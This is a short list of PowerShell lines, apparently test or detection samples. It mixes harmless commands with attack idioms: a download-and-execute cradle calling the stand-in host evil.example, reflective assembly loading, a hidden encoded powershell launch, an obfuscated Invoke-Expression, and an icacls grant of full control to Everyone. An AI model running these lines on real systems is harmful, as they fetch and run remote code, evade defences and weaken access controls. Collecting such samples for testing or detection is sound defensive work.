$wc = New-Object System.Net.WebClient
IEX ($wc.DownloadString('http://evil.example/a.ps1'))
$b = [Convert]::FromBase64String($s); [System.Reflection.Assembly]::Load($b)
powershell.exe -NoP -W Hidden -Enc SQBFAFgA
I`nv`oke-Expression ("{1}{0}" -f 'x','y')
& ([scriptblock]::Create($c))
cmd /c dir 2>&1 > $null
icacls x --% /grant Everyone:(F)
. .\lib.ps1; Import-Module ./m.psm1 -Force
